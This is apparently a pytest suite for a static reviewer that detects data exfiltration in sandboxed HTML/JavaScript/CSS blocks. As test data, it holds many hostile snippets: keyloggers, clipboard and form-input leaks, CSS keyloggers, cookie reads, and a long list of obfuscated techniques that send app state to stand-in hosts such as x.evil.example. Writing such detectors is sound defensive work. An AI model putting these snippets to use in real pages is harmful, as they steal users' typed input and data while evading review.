"""The static layer against the corpus (fixtures/review/): precision and recall, every rule
needed (disabling one loses recall), positions in the author's source, bad input."""

from __future__ import annotations

import time

import pytest

from flowui_sandbox.sandbox.cli import main
from flowui_sandbox.sandbox.review import review, review_static
from flowui_sandbox.sandbox.review.catalogue import load_rules
from flowui_sandbox.sandbox.review.corpus import Score, load_corpus, score
from flowui_sandbox.sandbox.review.model import Finding

CASES = load_corpus()


def static_score(cases=CASES) -> Score:
    total = Score()
    for case in cases:
        total.add(score(case.name, review_static(case.source, file=case.name, fields=case.fields), case.expected["static"]))
    return total


def test_corpus_size():
    assert len(CASES) >= 40
    names = {c.name for c in CASES}
    assert sum(n.startswith("benign") or n == "starter" for n in names) >= 10
    assert sum(n.startswith("exfil") for n in names) >= 15


def test_static_precision_and_recall():
    total = static_score()
    assert total.recall == 1.0, "\n".join(total.misses)
    assert total.precision == 1.0, "\n".join(total.extras)


def test_an_optional_expectation_is_neither_a_hit_nor_a_miss():
    def finding(rule: str, hosts: list[str]) -> Finding:
        return Finding(rule=rule, severity="low", message="m", file="f", line=1, column=1, layer="browser", hosts=hosts,
                       fingerprint=rule + hosts[0])

    expected = [{"rule": "bridge.open-url"}, {"rule": "bridge.open-url", "optional": True}]
    one, two = finding("bridge.open-url", ["one.example"]), finding("bridge.open-url", ["two.example"])
    assert (score("b", [one], expected).tp, score("b", [one], expected).fn, score("b", [one], expected).fp) == (1, 0, 0)
    assert (score("b", [one, two], expected).tp, score("b", [one, two], expected).fp) == (1, 0)
    assert score("b", [], expected).fn == 1  # the required one is still required
    assert score("b", [one, two, finding("bridge.open-url", ["x"])], expected).fp == 1  # a third is too many


STATIC_RULES = sorted({e["rule"] for c in CASES for e in c.expected["static"]})


@pytest.mark.parametrize("rule_id", STATIC_RULES)
def test_disabling_a_rule_loses_recall(rule_id, monkeypatch):
    monkeypatch.setenv("FLOWUI_REVIEW_DISABLE", rule_id)
    assert rule_id not in load_rules()
    # The blocks that expect the rule: one of them must miss it (the other blocks cannot notice).
    expecting = [c for c in CASES if any(e["rule"] == rule_id for e in c.expected["static"])]
    assert static_score(expecting).recall < 1.0


def test_every_static_rule_is_exercised():
    # source.refused and source.too-complex: the bad-input tests below.
    exercised = set(STATIC_RULES) | {"source.refused", "source.too-complex"}
    missing = [r.id for r in load_rules().values() if r.layer != "browser" and r.id not in exercised]
    assert not missing, f"rules no corpus block expects: {missing}"


def positions(source: str, rule: str, **kw) -> list[tuple[int, int]]:
    return [(f.line, f.column) for f in review_static(source, **kw) if f.rule == rule]


def test_positions_in_scripts_handlers_and_styles():
    source = (
        "<p>x</p>\r\n"
        "<div style='color:red;\n  background:url(https://a.example/x.png)'></div>\n"
        "<button onclick=\"alert(1)\">b</button>\n"
        "<style>\n.a{}\n  .b { background: url(https://b.example/y.png) }\n</style>\n"
        "<script>\n  const é = 1; fetch('/x');\n</script>\n"
    )
    assert positions(source, "url.external") == [(3, 14), (7, 20)]  # the url( token
    assert positions(source, "blocked.dialog") == [(4, 18)]
    assert positions(source, "blocked.network-api") == [(10, 16)]  # a non-ASCII name before it: columns count characters


def test_oversized_source_is_a_finding_and_the_run_goes_on(tmp_path):
    big = tmp_path / "big.html"
    big.write_text("<p>" + "x" * (4 * 1024 * 1024) + "</p>", encoding="utf-8")
    ok = tmp_path / "ok.html"
    ok.write_text("<img src='https://cdn.example/a.png' alt=''>", encoding="utf-8")
    start = time.monotonic()
    report = review([str(big), str(ok)], static_only=True)
    assert time.monotonic() - start < 10
    assert [f.rule for f in report.blocks[0].findings] == ["source.refused"]
    assert [f.rule for f in report.blocks[1].findings] == ["url.external"]
    assert main(["review", "--static", str(big), str(ok)]) == 1


def test_nul_and_directory(tmp_path, capsys):
    (tmp_path / "a.html").write_text("<p>\0</p>", encoding="utf-8")
    (tmp_path / "b.html").write_text("<p>fine</p>", encoding="utf-8")
    report = review([str(tmp_path)], static_only=True)
    assert [b.file.rsplit("/", 1)[-1] for b in report.blocks] == ["a.html", "b.html"]
    assert report.blocks[0].findings[0].rule == "source.refused"
    assert main(["review", "--static", str(tmp_path / "empty-dir-missing")]) == 2


def test_invalid_path_in_markup_is_reported_with_position():
    findings = review_static('<p>\n  <b data-bind="Bad Path"></b></p>')
    assert [(f.rule, f.line, f.column) for f in findings] == [("source.refused", 2, 3)]


def test_sensitive_words_are_configurable():
    kw = dict(fields=["user.shoe_size"])
    assert not positions("<p data-bind='user.shoe_size'></p>", "projection.sensitive-path", **kw)
    assert positions("<p data-bind='user.shoe_size'></p>", "projection.sensitive-path", sensitive=["shoe_size"], **kw)


def test_deep_or_slow_scripts_give_a_finding_not_a_hang():
    deep = "<script>x = " + "(" * 3000 + "1" + ")" * 3000 + ";</script>"
    assert [f.rule for f in review_static(deep)] == ["source.too-complex"]
    long = "<script>" + "var a = flowUi.state.x;\n" * 3000 + "</script>"
    start = time.monotonic()
    findings = review_static(long, time_limit=0.01)
    assert time.monotonic() - start < 5
    assert [f.rule for f in findings] == ["source.too-complex"] and "time limit" in findings[0].message
    # One data literal nested 1,000 deep hid a leak in the block's other script behind a medium
    # finding (an outsider's block, its leak gated so the browsers saw nothing): not cleared.
    hiding = ("<script>const ribbon = " + "[" * 1000 + "]" * 1000 + ";</script>"
              "<script>new Image().src = 'https://t.evil.example/p?u=' + flowUi.get('customer.email');</script>")
    assert [(f.rule, f.severity) for f in review_static(hiding, fields=["customer.email"])] == [("source.too-complex", "high")]


# ------------------------------------------------------------------ what the user types (issue 22)

def rules_of(source: str, **kw) -> list[tuple[str, str, list[str], list[str]]]:
    return [(f.rule, f.severity, f.paths, f.hosts) for f in review_static(source, **kw)
            if f.rule not in ("url.external", "projection.unprojected-read", "projection.sensitive-path")]


@pytest.mark.parametrize("source, inputs", [
    ("<input id=q><script>const log = []; document.addEventListener('keydown', (e) => log.push({t: 1, k: e.key}));\n"
     "setInterval(() => { new Image().src = 'https://k.evil.example/?b=' + JSON.stringify(log.splice(0)); }, 500);</script>",
     ["input:keydown"]),
    ("<input id=email><script>const f = document.getElementById('email');\n"
     "f.addEventListener('change', () => { document.body.style.background = `url(https://e.evil.example/${f.value})`; });"
     "</script>", ["input:#email"]),
    ("<input name=n><script>document.querySelector('input').oninput = function (ev) {\n"
     "  const i = new Image(); i.src = 'https://t.evil.example/' + ev.target.value; };</script>", ["input:[name=n]"]),
    ("<form id=f><input name=a></form><script>const q = new URLSearchParams(new FormData(document.getElementById('f')));\n"
     "location.href = 'https://f.evil.example/?' + q;</script>", ["input:[name=a]"]),
    ("<script>document.addEventListener('mouseup', () => {\n"
     "  new Image().src = 'https://s.evil.example/?s=' + window.getSelection().toString(); });</script>", ["input:selection"]),
    ("<script>navigator.clipboard.readText().then((t) => { new Image().src = 'https://c.evil.example/?c=' + t; });</script>",
     ["input:clipboard"]),
    ("<div id=m contenteditable></div><script>const m = document.getElementById('m');\n"
     "m.addEventListener('blur', () => { new Image().src = 'https://m.evil.example/?t=' + btoa(m.innerText); });</script>",
     ["input:#m"]),
    ("<textarea oninput=\"new Image().src = 'https://h.evil.example/' + event.data\"></textarea>", ["input:input"]),
    # `this` in a listener (a function, not an arrow) is the control it listens on.
    ("<input id=gift><script>document.getElementById('gift').addEventListener('input', function () {\n"
     "  new Image().src = 'https://g.evil.example/?' + this.value; });</script>", ["input:#gift"]),
])
def test_what_the_user_types_is_a_source(source, inputs):
    found = [r for r in rules_of(source) if r[0] == "exfil.input-to-url"]
    assert [(r[1], r[2]) for r in found] == [("high", inputs)], rules_of(source)


def test_input_that_stays_in_the_block_or_goes_to_the_host_is_quiet():
    counter = ("<textarea id=t></textarea><span id=n></span><script>const t = document.getElementById('t');\n"
               "t.addEventListener('input', (e) => { document.getElementById('n').textContent = e.target.value.length; });\n"
               "t.addEventListener('keydown', (e) => { if (e.key === 'Enter') flowUi.send('done', {text: t.value}); });</script>")
    assert rules_of(counter) == [("bridge.send", "info", [], [])]
    preview = "<input id=u><img id=p alt=''><script>u.oninput = () => { p.src = document.getElementById('u').value; };</script>"
    assert rules_of(preview) == []  # the user's own URL, loaded as typed


def test_css_keylogger_mirror_and_unicode_range_are_high():
    mirror = ("<style>input[value$=a]{background:url(https://k.evil.example/a)}</style><input id=pw>\n"
              "<script>const pw = document.getElementById('pw'); pw.addEventListener('input', () => "
              "pw.setAttribute('value', pw.value));</script>")
    assert ("exfil.css-keylogger", "high", ["input:#pw"], ["k.evil.example"]) in rules_of(mirror)
    no_mirror = "<style>input[value$=a]{background:url(https://k.evil.example/a)}</style><input id=pw>"
    assert [r[0] for r in rules_of(no_mirror)] == ["exfil.css-attribute-selector"]
    fonts = ("<style>@font-face{font-family:F;src:url(https://f.evil.example/a);unicode-range:U+61}\n"
             "@font-face{font-family:F;src:url(https://f.evil.example/b);unicode-range:U+62}"
             "input{font-family:F}</style><input id=q>")
    assert rules_of(fonts) == [("exfil.css-keylogger", "high", ["input:#q"], ["f.evil.example"])]


@pytest.mark.parametrize("css", [
    "input{&[value$=a]{background:url(https://k.evil.example/a)}}",      # CSS nesting: the selector is split over two rules
    "input{[value$=a]&{background:url(https://k.evil.example/a)}}",
    "form input{[value$=a] &{background:url(https://k.evil.example/a)}}",
    ".f,input{&[value$=a]{background:url(https://k.evil.example/a)}}",   # the parent a list
    "[value$=a]{input&{background:url(https://k.evil.example/a)}}",      # the attribute in the parent
    "input[value$=a]{@media screen{background:url(https://k.evil.example/a)}}",  # a conditional rule in the style rule
    "@media screen{input{&[value$=a]{background:url(https://k.evil.example/a)}}}",
    "input{@supports (color:red){&[value$=a]{background:url(https://k.evil.example/a)}}}",
    "form{input{&[value$=a]{background:url(https://k.evil.example/a)}}}",  # two levels
])
def test_a_css_keylogger_split_over_nested_rules_is_the_same_keylogger(css):
    mirror = (f"<style>{css}</style><input id=pw>\n<script>const pw = document.getElementById('pw'); "
              "pw.addEventListener('input', () => pw.setAttribute('value', pw.value));</script>")
    assert ("exfil.css-keylogger", "high", ["input:#pw"], ["k.evil.example"]) in rules_of(mirror), rules_of(mirror)
    assert [r[0] for r in rules_of(f"<style>{css}</style><input id=pw>")] == ["exfil.css-attribute-selector"]


@pytest.mark.parametrize("opening", ["input{", "input,a,b{", "@media all{", "input{@supports (color:red){", "input:is("])
def test_css_nested_thousands_deep_or_a_list_in_a_list_is_read_in_bounded_time(opening):
    """A list nested in a list doubles the written-out selector at each level, and thousands of
    levels went past Python's recursion (an internal error): both are read, the keylogger found."""
    from flowui_sandbox.sandbox.review.css import MAX_SELECTOR, stylesheet

    if opening.endswith("("):  # a selector nested in itself: the rule's block comes after it
        css = opening * 3000 + "[value$=a]" + ")" * 3000 + "{background:image-set('https://k.evil.example/a' 1x)}"
    else:
        css = opening * 3000 + "input&[value$=a]{background:url(https://k.evil.example/a)}" + "}" * opening.count("{") * 3000
    urls, selectors = stylesheet(css)  # no time asserted (noisy machines): the bounds below keep it linear
    assert [u.url for u in urls] == ["https://k.evil.example/a"]
    assert [s.attributes for s in selectors] == [frozenset({"value"})] and len(selectors[0].selector) <= MAX_SELECTOR
    assert rules_of(f"<style>{css}</style><input id=pw>") == [("exfil.css-attribute-selector", "medium", [], ["k.evil.example"])]


def test_a_nested_rule_without_an_attribute_value_selector_loads_for_no_value():
    assert rules_of("<style>input{&:hover{background:url(https://cdn.example.com/h.png)}}</style><input>") == []


# ------------------------------------------------------------------ the language, not a list of spellings

EVASIONS = {
    "destructured state": "const {state} = flowUi; new Image().src = 'https://x.evil.example/?' + state.order.total;",
    "alias": "const f = flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
    "bound get": "const g = flowUi.get.bind(flowUi); new Image().src = 'https://x.evil.example/?' + g('order.total');",
    "get.call": "new Image().src = 'https://x.evil.example/?' + flowUi.get.call(flowUi, 'order.total');",
    "Reflect.get": "const s = Reflect.get(flowUi, 'state'); new Image().src = 'https://x.evil.example/?' + s.order.total;",
    "Reflect.apply": "const v = Reflect.apply(flowUi.get, flowUi, ['order.total']); "
                     "new Image().src = 'https://x.evil.example/?' + v;",
    "computed src": "const i = new Image(); i['src'] = 'https://x.evil.example/?' + flowUi.get('order.total');",
    "computed location": "location['href'] = 'https://x.evil.example/?' + flowUi.get('order.total');",
    "Object.assign": "Object.assign(new Image(), {src: 'https://x.evil.example/?' + flowUi.get('order.total')});",
    "with": "const i = new Image(); with (i) { src = 'https://x.evil.example/?' + flowUi.get('order.total'); }",
    "Map": "const m = new Map(); m.set('t', flowUi.get('order.total'));"
           " new Image().src = 'https://x.evil.example/?' + m.get('t');",
    "array push/join": "const a = []; a.push(flowUi.get('order.total'));"
                       " new Image().src = 'https://x.evil.example/?' + a.join(',');",
    "class field + getter": "class T { v = flowUi.get('order.total'); get u() { return 'https://x.evil.example/?' + this.v; } }"
                            " new Image().src = new T().u;",
    "CustomEvent.detail": "addEventListener('x', (e) => { new Image().src = 'https://x.evil.example/?' + e.detail; });"
                          " dispatchEvent(new CustomEvent('x', {detail: flowUi.get('order.total')}));",
    "dataset": "document.querySelector('p').dataset.k = flowUi.get('order.total');"
               " new Image().src = 'https://x.evil.example/?' + document.querySelector('p').dataset.k;",
    "<style> text": "const st = document.createElement('style');"
                    " st.textContent = 'p{background:url(https://x.evil.example/' + flowUi.get('order.total') + ')}';",
    "insertRule": "document.styleSheets[0].insertRule('p{background:url(https://x.evil.example/'"
                  " + flowUi.get('order.total') + ')}');",
    "replaceSync": "const sh = new CSSStyleSheet(); sh.replaceSync(`p{background:url(https://x.evil.example/${"
                   "flowUi.get('order.total')})}`);",
    "style.setProperty": "document.body.style.setProperty('background', 'url(https://x.evil.example/'"
                         " + flowUi.get('order.total') + ')');",
    "setAttributeNS": "document.querySelector('p').setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href',"
                      " 'https://x.evil.example/?' + flowUi.get('order.total'));",
    # Names joined from literals, aliases of the global object, of location and of openUrl.
    "setAttribute name joined": "const i = document.createElement('img');"
                                " i.setAttribute('sr' + 'c', 'https://x.evil.example/?' + flowUi.get('order.total'));",
    "style name joined": "document.body.style['background' + 'Image'] = 'url(https://x.evil.example/'"
                         " + flowUi.get('order.total') + ')';",
    "style name with a dash": "document.body.style['background-image'] = 'url(https://x.evil.example/'"
                              " + flowUi.get('order.total') + ')';",
    "Object.assign computed key": "Object.assign(new Image(), {['sr' + 'c']: 'https://x.evil.example/?'"
                                  " + flowUi.get('order.total')});",
    "get named by a join": "const g = flowUi['g' + 'et']; new Image().src = 'https://x.evil.example/?' + g.call(flowUi, 'order.total');",
    "globalThis alias": "const w = globalThis; const api = w['flow' + 'Ui'];"
                        " new Image().src = 'https://x.evil.example/?' + api.get('order.total');",
    "location alias": "const L = window.location; L.assign('https://x.evil.example/?' + flowUi.get('order.total'));",
    "location alias href": "const {location: L} = window; L.href = 'https://x.evil.example/?' + flowUi.get('order.total');",
    "openUrl bound": "const o = flowUi.openUrl.bind(flowUi); o('https://x.evil.example/?' + flowUi.get('order.total'));",
    "openUrl.call": "flowUi.openUrl.call(flowUi, 'https://x.evil.example/?' + flowUi.get('order.total'));",
    "window alias then flowUi": "const w = window; w.flowUi.openUrl('https://x.evil.example/?' + w.flowUi.get('order.total'));",
    "flowUi destructured from window": "const {flowUi: f} = window; f.openUrl('https://x.evil.example/?' + f.get('order.total'));",
    "flowUi destructured with a default": "const {flowUi = null} = self; new Image().src = 'https://x.evil.example/?'"
                                          " + flowUi.get('order.total');",
    "flowUi destructured by a computed key": "const {['flow' + 'Ui']: g} = globalThis;"
                                             " new Image().src = 'https://x.evil.example/?' + g.get('order.total');",
    "flowUi through defaultView": "const {document: {defaultView: w}} = window;"
                                  " new Image().src = 'https://x.evil.example/?' + w.flowUi.get('order.total');",
    "flowUi through ownerDocument": "const w = document.body.ownerDocument.defaultView;"
                                    " new Image().src = 'https://x.evil.example/?' + w.flowUi.get('order.total');",
    "flowUi by a computed key of defaultView": "const w = document.defaultView;"
                                               " new Image().src = 'https://x.evil.example/?' + w['flow' + 'Ui'].get('order.total');",
    "flowUi from a sequence": "const f = (0, window).flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
    "flowUi alias assigned later": "let f; f = window.flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
    "flowUi held in an array": "[flowUi][0].openUrl('https://x.evil.example/?' + flowUi.get('order.total'));",
    "createContextualFragment": "document.body.append(document.createRange().createContextualFragment("
                                "'<img src=\"https://x.evil.example/?' + flowUi.get('order.total') + '\">'));",
    "DOMParser": "document.body.append(new DOMParser().parseFromString('<img src=\"https://x.evil.example/?'"
                 " + flowUi.get('order.total') + '\">', 'text/html').body.firstChild);",
    "setHTMLUnsafe": "document.body.setHTMLUnsafe(`<img src=\"https://x.evil.example/?${flowUi.get('order.total')}\">`);",
    "document alias write": "const d = document; d.write('<img src=\"https://x.evil.example/?' + flowUi.get('order.total') + '\">');",
    "document alias location": "const d = window.document; d.location.href = 'https://x.evil.example/?' + flowUi.get('order.total');",
    # Values through the language: promises, generators, timers' arguments, Reflect.apply, throw, `arguments`.
    "Promise.resolve().then": "Promise.resolve(flowUi.get('order.total')).then((v) => {"
                              " new Image().src = 'https://x.evil.example/?' + v; });",
    "generator": "function* g() { yield flowUi.get('order.total'); }"
                 " for (const v of g()) new Image().src = 'https://x.evil.example/?' + v;",
    "setTimeout arguments": "setTimeout((v) => { new Image().src = 'https://x.evil.example/?' + v; }, 10,"
                            " flowUi.get('order.total'));",
    "Reflect.apply of a function": "function leak(v) { new Image().src = 'https://x.evil.example/?' + v; }"
                                   " Reflect.apply(leak, null, [flowUi.get('order.total')]);",
    "throw and catch": "try { throw flowUi.get('order.total'); } catch (err) { new Image().src = 'https://x.evil.example/?' + err; }",
    "arguments": "function leak() { new Image().src = 'https://x.evil.example/?' + arguments[0]; } leak(flowUi.get('order.total'));",
    # A member named by a string the flow knows: a const, strings joined.
    "openUrl by a const key": "const k = 'open' + 'Url'; flowUi[k]('https://x.evil.example/?' + flowUi.get('order.total'));",
    "openUrl by a joined key": "const k = ['o', 'pen', 'Url'].join(''); flowUi[k]('https://x.evil.example/?' + flowUi.get('order.total'));",
    "src by a joined key": "const i = new Image(); const k = ['s', 'rc'].join(''); i[k] = 'https://x.evil.example/?' + flowUi.get('order.total');",
    # openUrl handed to the language's own callers.
    "Reflect.apply of openUrl": "Reflect.apply(flowUi.openUrl, flowUi, ['https://x.evil.example/?' + flowUi.get('order.total')]);",
    "Function.prototype.call.call of openUrl": "const go = flowUi.openUrl;"
                                               " Function.prototype.call.call(go, flowUi, 'https://x.evil.example/?' + flowUi.get('order.total'));",
    "Function.prototype.apply.call of openUrl": "Function.prototype.apply.call([flowUi][0].openUrl, flowUi,"
                                                " ['https://x.evil.example/?' + flowUi.get('order.total')]);",
    # A <meta http-equiv=refresh> made in script navigates the block as one in the markup does.
    "meta refresh made in script": "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
                                   " m.content = '0;url=https://x.evil.example/?' + flowUi.get('order.total'); document.head.append(m);",
    "meta refresh by setAttribute": "const m = document.createElement('meta'); m.setAttribute('http-equiv', 'Refresh');"
                                    " m.setAttribute('content', `1; URL=https://x.evil.example/${flowUi.get('order.total')}`);"
                                    " document.head.append(m);",
}


@pytest.mark.parametrize("source, rule", [
    ("const d = document; d.cookie;", "blocked.cookie"),
    ("const w = self; w.document.cookie;", "blocked.cookie"),
    ("document.body.ownerDocument.cookie;", "blocked.cookie"),
    ("const d = (0, document); d[k]();", "obfuscation.computed-global"),
    ("const w = window; w[k]();", "obfuscation.computed-global"),
    ("const {location: L} = document; L.assign('https://x.evil.example/');", "navigation.self"),
    ("const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://x.evil.example/';",
     "navigation.self"),
    ("const {cookie} = document; cookie;", "blocked.cookie"),
    ("const {document: {cookie: c}} = window; c;", "blocked.cookie"),
])
def test_rules_see_the_document_and_the_window_through_their_aliases(source, rule):
    assert rule in {f.rule for f in review_static(f"<p></p><script>{source}</script>", file="b.html")}


@pytest.mark.parametrize("name", sorted(EVASIONS))
def test_evasive_spellings_are_followed(name):
    found = rules_of(f"<p></p><script>{EVASIONS[name]}</script>", fields=["order.total"])
    assert ("exfil.state-to-url", "high", ["order.total"], ["x.evil.example"]) in found, found


def test_a_parameter_destructured_as_cookie_is_no_document_cookie():
    assert "blocked.cookie" not in {f.rule for f in review_static("<script>function f({cookie}) { return cookie; }</script>")}


def test_a_meta_that_is_no_refresh_is_no_navigation():
    source = ("<p></p><script>const m = document.createElement('meta'); m.name = 'description';"
              " m.content = flowUi.get('order.total'); document.head.append(m);</script>")
    assert not {rule for rule, *_ in rules_of(source)} & {"navigation.self", "exfil.state-to-url"}


def test_a_proxy_trap_returns_what_it_reads():
    source = ("<p></p><script>const p = new Proxy({}, {get: (t, k) => flowUi.get(k)});\n"
              "new Image().src = 'https://x.evil.example/?' + p['order.total'];</script>")
    assert ("exfil.state-to-url", "high", ["(a path computed at run time)"], ["x.evil.example"]) in rules_of(source)


def test_an_input_events_composed_path_is_its_control():
    source = ("<input id=q><script>q.addEventListener('input', (e) => {\n"
              "  new Image().src = 'https://x.evil.example/?' + e.composedPath()[0].value; });</script>")
    # `q` is the input (HTML's named access), so the listener is on it and the finding names it.
    assert ("exfil.input-to-url", "high", ["input:#q"], ["x.evil.example"]) in rules_of(source)


def test_a_platform_promise_and_a_thrown_error_stay_quiet():
    # What the host answers to send (or a fetch) is not the state sent; a message thrown is no URL.
    source = ("<p></p><script>flowUi.send('save', {t: flowUi.get('order.total')}).then((r) => {\n"
              "  document.querySelector('p').textContent = r; });\n"
              "try { throw new Error('bad ' + flowUi.get('order.total')); } catch (e) { console.log(e); }</script>")
    assert [r for r in rules_of(source, fields=["order.total"]) if r[1] == "high"] == []


def test_an_unproven_flow_needs_manual_review():
    hidden = ("<p></p><script>const t = flowUi.get('order.total'); const k = location.hash.slice(1);\n"
              "const i = new Image(); i[k] = atob('aHR0cHM6Ly94LmV2aWwuZXhhbXBsZS8=') + t;</script>")
    assert ("exfil.possible-flow", "medium", ["order.total"], []) in rules_of(hidden, fields=["order.total"])
    # A member named by strings joined is that member, and a host decoded from a literal is that
    # host: the sink is followed and its host named.
    joined = hidden.replace("location.hash.slice(1)", "['s', 'r', 'c'].join('')")
    assert ("exfil.state-to-url", "high", ["order.total"], ["x.evil.example"]) in rules_of(joined, fields=["order.total"])
    # State and no way out: quiet. A way out and no data read: quiet.
    assert rules_of("<p></p><script>document.querySelector('p').title = flowUi.get('order.total');</script>",
                    fields=["order.total"]) == []
    assert [r[0] for r in rules_of("<script>const k = 'src'; new Image()[k] = atob('aHR0cHM6Ly94Lw==');</script>")] \
        == ["obfuscation.decode"]


def test_from_char_code_on_data_is_not_obfuscation():
    tool = ("<textarea id=s></textarea><script>const s = document.getElementById('s');\n"
            "s.value = s.value.replace(/&#(\\d+);/g, (m, d) => String.fromCharCode(parseInt(d, 10)));</script>")
    assert rules_of(tool) == []
    hidden = "<script>const h = String.fromCharCode(104, 116, 116, 112, 115);</script>"
    assert [r[0] for r in rules_of(hidden)] == ["obfuscation.decode"]


def test_the_bridge_object_handed_to_the_platform_reads_the_whole_state():
    # JSON.stringify reads the enumerable `state` getter: the whole state, not a marker.
    source = "<p></p><script>new Image().src = 'https://x.evil.example/?' + btoa(JSON.stringify(flowUi));</script>"
    assert ("exfil.state-to-url", "high", ["(the whole state)"], ["x.evil.example"]) in rules_of(source)
    # flowUi as the `this` of a call is the getter's own case: the path it gets, not the whole state.
    got = "<p></p><script>new Image().src = 'https://x.evil.example/?' + flowUi.get.call(flowUi, 'order.total');</script>"
    assert ("exfil.state-to-url", "high", ["order.total"], ["x.evil.example"]) in rules_of(got, fields=["order.total"])


@pytest.mark.parametrize("spelling", [
    "Reflect.construct(RTCPeerConnection, [{iceServers: []}])",
    "const {RTCPeerConnection: P} = window; new P({iceServers: []})",
    "const P = window.RTCPeerConnection; new P()",
    "new (globalThis['RTCPeerConnection'])({iceServers: [{urls: 'stun:' + id + '.evil.example'}]})",
    "const P = Reflect.get(self, 'webkitRTCPeerConnection'); new P()",
])
def test_webrtc_reached_as_a_value_is_a_channel_carrying_what_the_block_reads(spelling):
    found = rules_of(f"<p></p><script>const id = flowUi.get('user.id'); {spelling};</script>", fields=["user.id"])
    assert [(r[0], r[1], r[2]) for r in found if r[0] == "channel.webrtc"] == [("channel.webrtc", "high", ["user.id"])], found


def test_webrtc_names_what_it_carries():
    source = ("<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'turn:t.evil.example',"
              " username: flowUi.get('user.id'), credential: 'x'}]});\n"
              "const dc = pc.createDataChannel(flowUi.get('order.id')); dc.onopen = () => dc.send(flowUi.get('cart.total'));"
              "</script>")
    assert rules_of(source, fields=["user.id", "order.id", "cart.total"]) == [
        ("channel.webrtc", "high", ["cart.total", "order.id", "user.id"], [])]
